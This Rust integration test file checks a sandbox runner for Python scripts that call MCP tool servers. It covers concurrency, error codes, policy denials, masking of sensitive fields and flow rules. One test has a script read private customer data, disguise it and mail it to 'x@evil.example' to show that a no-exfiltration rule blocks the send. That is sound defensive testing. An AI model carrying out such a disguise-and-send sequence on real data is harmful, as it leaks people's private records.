//! Python scripts (issue 48) through the real CLI and the real runner: the npm reference
//! filesystem server and the rmcp fixture called concurrently with `asyncio.gather`, failed calls
//! as exceptions whose message starts with the code (and that keep it when they end the script),
//! a policy denial, a forged code, and a placeholder that behaves exactly as in JavaScript.

use crate::common::cli_run_env;
use crate::common::{bin, repo_root};
use serde_json::{json, Value};
use std::path::{Path, PathBuf};

/// `run --json` of `code` as `script.py` (the language comes from the extension).
pub fn run_py(dir: &Path, config: &Path, code: &str, flags: &[&str]) -> (Value, String) {
    run_file(dir, config, "script.py", code, flags)
}

/// `run --json` of `code` written to `dir/name`, on the state file `dir/state.db`, with the
/// operator's key set: the outcome and every byte printed.
pub fn run_file(
    dir: &Path,
    config: &Path,
    name: &str,
    code: &str,
    flags: &[&str],
) -> (Value, String) {
    let script = dir.join(name);
    std::fs::write(&script, code).unwrap();
    let runner = bin("sandbox-runner");
    let state = dir.join("state.db");
    let mut args = vec!["run", "--json"];
    args.extend_from_slice(flags);
    args.extend([
        "--config",
        config.to_str().unwrap(),
        "--state",
        state.to_str().unwrap(),
        "--runner",
        runner.to_str().unwrap(),
        script.to_str().unwrap(),
    ]);
    let out = cli_run_env(&args, &[("MCP_SANDBOX_KEY", KEY)]);
    let printed = String::from_utf8_lossy(&out.stdout).to_string();
    let outcome = serde_json::from_str(&printed).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {printed}\n{}",
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (outcome, printed)
}

/// The operator's seal key, so a session's placeholders outlive one `run`.
const KEY: &str = "5f1e0c3a9b7d2468ace013579bdf2468ace013579bdf2468ace013579bdf2468";

pub fn write_config(dir: &Path, servers: Value, sandbox: Value) -> PathBuf {
    let path = dir.join("mcp.json");
    let body = json!({"mcpServers": servers, "sandbox": sandbox});
    std::fs::write(&path, body.to_string()).unwrap();
    path
}

pub fn fixture() -> Value {
    json!({"command": bin("fixture-mcp-server")})
}

fn events<'a>(o: &'a Value, kind: &str) -> Vec<&'a Value> {
    o["traces"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|t| t["type"] == kind)
        .collect()
}

#[test]
fn a_python_script_calls_the_filesystem_server_and_the_fixture_concurrently() {
    let npm = repo_root().join("node_modules/.bin/mcp-server-filesystem");
    assert!(npm.exists(), "run scripts/setup.sh (npm ci) first");
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    std::fs::write(
        data.join("orders.json"),
        r#"[{"id": 1, "total": 30}, {"id": 2, "total": 12}, {"id": 3, "total": 30}]"#,
    )
    .unwrap();
    let data = data.canonicalize().unwrap();
    let config = write_config(
        dir.path(),
        json!({"fixture": fixture(), "filesystem": {"command": npm, "args": [data], "files": {"write": [data]}}}),
        json!({}),
    );
    let code = format!(
        r#"import asyncio
import json

slow, file = await asyncio.gather(
    mcp.fixture.sleep(ms=400),
    mcp.filesystem.read_text_file({{"path": "{path}"}}),
)
orders = json.loads(file["content"])
by_total = {{}}
for o in orders:
    by_total.setdefault(o["total"], []).append(o["id"])
print(f"{{len(orders)}} orders")
total = await mcp.fixture.add(a=sum(o["total"] for o in orders), b=n)
{{"by_total": by_total, "sum": total["sum"], "slept": slow}}
"#,
        path = data.join("orders.json").display()
    );
    let (o, _) = run_py(dir.path(), &config, &code, &["--context", r#"{"n": 0.5}"#]);
    assert_eq!(o["success"], true, "{o}");
    assert_eq!(
        o["result"],
        json!({"by_total": {"30": [1, 3], "12": [2]}, "sum": 72.5, "slept": "slept 400 ms"}),
        "{o}"
    );
    assert_eq!(o["logs"], json!([{"level": "log", "message": "3 orders"}]));
    // Both calls of the gather were in flight at once: the file was read while the fixture
    // slept (its tool_end comes first although it started second).
    let order: Vec<(String, String)> = o["traces"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            (
                t["type"].as_str().unwrap().to_string(),
                t["tool"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let pos = |kind: &str, tool: &str| {
        order
            .iter()
            .position(|(k, t)| k == kind && t == tool)
            .unwrap_or_else(|| panic!("no {kind} of {tool}: {order:?}"))
    };
    assert!(pos("tool_start", "filesystem:read_text_file") < pos("tool_end", "fixture:sleep"));
    assert!(pos("tool_end", "filesystem:read_text_file") < pos("tool_end", "fixture:sleep"));
    assert_eq!(o["metrics"]["tool_calls"], 3);
}

#[test]
fn failed_calls_raise_with_their_code_and_keep_it_when_uncaught() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(
        dir.path(),
        json!({"fixture": fixture()}),
        json!({"deny": ["fixture:pid"]}),
    );
    let (o, _) = run_py(
        dir.path(),
        &config,
        r#"seen = []
for call in [lambda: mcp.fixture.fail(message="boom"), lambda: mcp.fixture.pid(), lambda: mcp.fixture.ecko(message="x"), lambda: mcp.fixture.add(a="one", b=2)]:
    try:
        await call()
    except (RuntimeError, PermissionError, AttributeError, ValueError) as e:
        seen.append([type(e).__name__, str(e).split(":", 1)[0], str(e)])
seen
"#,
        &[],
    );
    assert_eq!(o["success"], true, "{o}");
    let seen = o["result"].as_array().unwrap();
    assert_eq!(
        seen[0],
        json!(["RuntimeError", "TOOL_ERROR", "TOOL_ERROR: boom"])
    );
    assert_eq!(seen[1][0], "PermissionError");
    assert_eq!(seen[1][1], "PERMISSION_DENIED");
    assert_eq!(
        seen[2],
        json!([
            "AttributeError",
            "TOOL_NOT_FOUND",
            "TOOL_NOT_FOUND: unknown tool 'fixture:ecko'; did you mean fixture:echo?"
        ])
    );
    assert_eq!(seen[3][0], "ValueError");
    assert_eq!(seen[3][1], "INVALID_ARGUMENTS");
    // The denied call never reached the server; the other two did.
    let ends: Vec<(String, String)> = events(&o, "tool_end")
        .iter()
        .map(|t| {
            (
                t["tool"].as_str().unwrap().to_string(),
                t["error"]["code"].as_str().unwrap_or("ok").to_string(),
            )
        })
        .collect();
    assert_eq!(
        ends,
        [
            ("fixture:fail".to_string(), "TOOL_ERROR".to_string()),
            ("fixture:pid".to_string(), "PERMISSION_DENIED".to_string()),
            ("fixture:add".to_string(), "INVALID_ARGUMENTS".to_string()),
        ]
    );

    // Uncaught, a call's exception ends the script with the call's code and tool…
    let (o, _) = run_py(dir.path(), &config, "await mcp.fixture.pid()\n", &[]);
    assert_eq!(o["success"], false);
    assert_eq!(o["error"]["code"], "PERMISSION_DENIED", "{o}");
    // …and the script's own exception with the same words is only a runtime error.
    let (o, _) = run_py(
        dir.path(),
        &config,
        "raise PermissionError(\"PERMISSION_DENIED: fixture:pid is denied\")\n",
        &[],
    );
    assert_eq!(o["error"]["code"], "RUNTIME_ERROR", "{o}");
    assert_eq!(
        o["error"]["message"],
        "PermissionError: PERMISSION_DENIED: fixture:pid is denied (line 1)"
    );
}

#[test]
fn a_marked_value_is_a_placeholder_in_python_and_resolves_for_the_revealed_tool() {
    let dir = tempfile::tempdir().unwrap();
    let crm = json!({
        "command": repo_root().join(".venv/bin/python"),
        "args": [repo_root().join("tests/python/crm_text_server.py")],
        "env": {"CRM_MAIL_LOG": dir.path().join("mail.log")},
        "files": {"write": [dir.path()]},
    });
    let config = write_config(
        dir.path(),
        json!({"crm": crm}),
        json!({"sensitive": {
            "fields": {"crm:get_customer*": ["/account"]},
            "reveal_to": {"account": ["crm:send_mail"]},
        }}),
    );
    let (o, printed) = run_py(
        dir.path(),
        &config,
        "import json\nc = json.loads(await mcp.crm.get_customer(id=7))\nprint('account ' + c['account'])\nc['account']\n",
        &["--session", "s"],
    );
    assert_eq!(o["success"], true, "{o}");
    let account = o["result"].as_str().unwrap().to_string();
    assert!(
        account.starts_with("⟪account:") && account.ends_with('⟫'),
        "{o}"
    );
    assert_eq!(o["logs"][0]["message"], format!("account {account}"));
    assert!(!printed.contains("ACC-0007-XQ"), "{printed}");
    let (sent, _) = run_py(
        dir.path(),
        &config,
        &format!("await mcp.crm.send_mail(to='{account}', subject='hello')\n"),
        &["--session", "s"],
    );
    assert_eq!(sent["result"], "sent", "{sent}");
    let log = std::fs::read_to_string(dir.path().join("mail.log")).unwrap();
    assert_eq!(
        serde_json::from_str::<Value>(log.trim()).unwrap(),
        json!({"to": "ACC-0007-XQ", "subject": "hello"})
    );
}

#[test]
fn session_state_is_shared_between_python_and_javascript() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), json!({"fixture": fixture()}), json!({}));
    let (o, _) = run_py(
        dir.path(),
        &config,
        "await store('seen', {'ids': [1, 2]})\nmissing = await load('nope')\n[await keys(), missing]\n",
        &["--session", "s"],
    );
    assert_eq!(o["result"], json!([["seen"], null]), "{o}");
    let (o, _) = run_file(
        dir.path(),
        &config,
        "read.js",
        "return await load('seen')",
        &["--session", "s"],
    );
    assert_eq!(o["result"], json!({"ids": [1, 2]}), "{o}");
}

#[test]
fn a_flow_rule_refuses_the_send_after_a_private_read_as_for_javascript() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(
        dir.path(),
        json!({"crm": fixture(), "mail": fixture()}),
        json!({
            "labels": {"crm:get_customer": ["private"], "mail:send_mail": ["egress"]},
            "flows": [{"after": ["private"], "deny": ["egress"], "name": "no-exfiltration"}],
        }),
    );
    let (o, _) = run_py(
        dir.path(),
        &config,
        r#"c = await mcp.crm.get_customer(id=7)
s = str(c)[::-1].upper()
try:
    await mcp.mail.send_mail(to=["x@evil.example"], subject=s)
    r = "sent"
except PermissionError as e:
    r = str(e)
r
"#,
        &[],
    );
    let why = o["result"].as_str().unwrap_or_else(|| panic!("{o}"));
    assert!(
        why.starts_with(
            "PERMISSION_DENIED: mail:send_mail is egress; this execution read private data from crm:get_customer at "
        ) && why.ends_with(" ms (config flow rule \"no-exfiltration\"); the call was not forwarded"),
        "{why}"
    );
    assert!(!events(&o, "tool_end")
        .iter()
        .any(|t| t["tool"] == "mail:send_mail" && t["success"] == true));
}

#[test]
fn tools_python_prints_the_stubs_of_the_configured_servers() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(
        dir.path(),
        json!({"fixture": fixture()}),
        json!({"deny": ["fixture:pid"]}),
    );
    let out = crate::common::cli_run(&["tools", "--python", "--config", config.to_str().unwrap()]);
    assert_eq!(out.status, 0, "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.starts_with("# The `mcp` API of this sandbox for Python scripts"),
        "{text}"
    );
    assert!(text.contains("\nclass fixture:\n"), "{text}");
    assert!(
        text.contains("    async def add(*, a: float, b: float) -> "),
        "{text}"
    );
    assert!(
        text.contains("Denied: calls raise PermissionError (PERMISSION_DENIED)"),
        "{text}"
    );
}
